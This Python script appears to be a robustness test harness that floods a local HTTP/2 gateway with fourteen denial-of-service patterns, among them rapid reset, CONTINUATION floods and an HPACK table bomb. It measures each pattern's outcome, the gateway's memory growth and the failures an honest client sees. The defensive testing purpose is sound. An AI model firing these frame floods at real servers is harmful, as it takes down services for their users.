"""Fourteen ways to make an HTTP/2 server work for nothing, and an honest client beside them: `STAND [PATTERN...]`.

Each is tried for at most five seconds and 200,000 frames on one connection. Prints for each: how it ended (`goaway CODE`, `closed`,
`alive`), frames sent, growth of the gateway's memory in KiB; and how many requests of the honest client failed meanwhile.
"""

import re
import sys
import threading
import time

import honest
import http2
from http2 import frame, head

SECONDS, FRAMES, BURST = 5, 200_000, 100
CALM = 11


def opened(stream, path="/two/x", flags=http2.END_HEADERS | http2.END_STREAM, method="GET"):
    return frame(http2.HEADERS, flags, stream, head(method, path))


class Streams:
    """Stream identifiers in turn."""

    def __init__(self):
        self.last = -1

    def next(self):
        self.last += 2
        return self.last


def patterns():
    """For each pattern: bytes that are sent once, and a function that gives what is sent again and again."""
    streams = Streams()

    def rapid():
        stream = streams.next()
        return opened(stream) + frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4))

    def caused():
        # A window beyond what there can be is an error of the stream, which the server has to reset.
        stream = streams.next()
        return opened(stream) + frame(http2.WINDOW_UPDATE, 0, stream, (0x7FFF_FFFF).to_bytes(4))

    def empty_headers():
        return frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, streams.next(), b"")

    bomb = http2.literal("x-bomb", "x" * 100)[1:]

    def indexed():
        # One entry of the table, named two thousand times in each block.
        return frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, streams.next(), b"\x40" + bomb + b"\xbe" * 2_000)

    return {
        "ping": (b"", lambda: frame(http2.PING, 0, 0, b"12345678")),
        "ping acks": (b"", lambda: frame(http2.PING, http2.ACK, 0, b"12345678")),
        "settings": (b"", lambda: frame(http2.SETTINGS)),
        "settings acks": (b"", lambda: frame(http2.SETTINGS, http2.ACK)),
        "priority": (b"", lambda: frame(http2.PRIORITY, 0, 1, bytes((0, 0, 0, 3, 1)))),
        "window updates": (b"", lambda: frame(http2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4))),
        "rapid reset": (b"", rapid),
        "caused resets": (b"", caused),
        "continuation": (opened(1, flags=http2.END_STREAM), lambda: frame(http2.CONTINUATION, 0, 1, http2.literal("x-more", "x" * 20))),
        "empty continuation": (opened(1, flags=http2.END_STREAM), lambda: frame(http2.CONTINUATION, 0, 1, b"")),
        "unknown frames": (b"", lambda: frame(0x42, 0, 0, b"12345678")),
        "empty data": (opened(1, flags=http2.END_HEADERS, method="POST"), lambda: frame(http2.DATA, 0, 1, b"")),
        "empty headers": (b"", empty_headers),
        "table bomb": (b"", indexed),
    }


def attack(port, before, again):
    client = http2.Raw(port, polite=False)
    client.send(before)
    sent, until = 0, time.monotonic() + SECONDS
    ended = threading.Event()

    def read():
        client.read(SECONDS + 4)
        ended.set()

    reader = threading.Thread(target=read)
    reader.start()
    while client.ended is None and time.monotonic() < until and sent < FRAMES:
        burst = b"".join(again() for _ in range(BURST))
        try:
            client.socket.sendall(burst)
        except OSError:
            break
        sent += BURST
        # Some thousands a second are enough to tell, and leave the honest client its share of the machine.
        time.sleep(0.005)
    ended.wait(3 if client.ended is None else 0.1)
    outcome = f"goaway {client.goaway}" if client.goaway is not None else client.ended or "alive"
    if client.goaway is not None and client.ended is None:
        outcome += " but open"
    client.close()
    reader.join()
    return outcome, sent


def honest_client(port, counts, ended):
    line = honest.Line(port)
    while not ended.is_set():
        try:
            answer = line.ask("GET", "/pages/x")
            honest.tally(counts, "ok" if answer.status == 200 else f"failed {answer.status}")
        except honest.Lost as lost:
            honest.tally(counts, f"failed {lost.how}")
            line = honest.Line(port)
        time.sleep(0.01)


def memory(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1))


def main(stand, wanted):
    port, pid = stand["ports"]["plain"], stand["pids"]["gateway/public"]
    for name in ("two", "pages"):
        honest.child(sys.executable, f"{honest.HERE}/slow_server.py", str(stand["ports"][name]))
    counts, ended = {}, threading.Event()
    beside = threading.Thread(target=honest_client, args=(port, counts, ended))
    beside.start()
    time.sleep(0.5)
    figures = {}
    for name, (before, again) in patterns().items():
        if wanted and name not in wanted:
            continue
        before_kib = memory(pid)
        outcome, sent = attack(port, before, again)
        figures[name] = [outcome, sent, memory(pid) - before_kib]
    ended.set()
    beside.join()
    honest.report(**figures, honest=counts)


main(honest.stand(), honest.words())
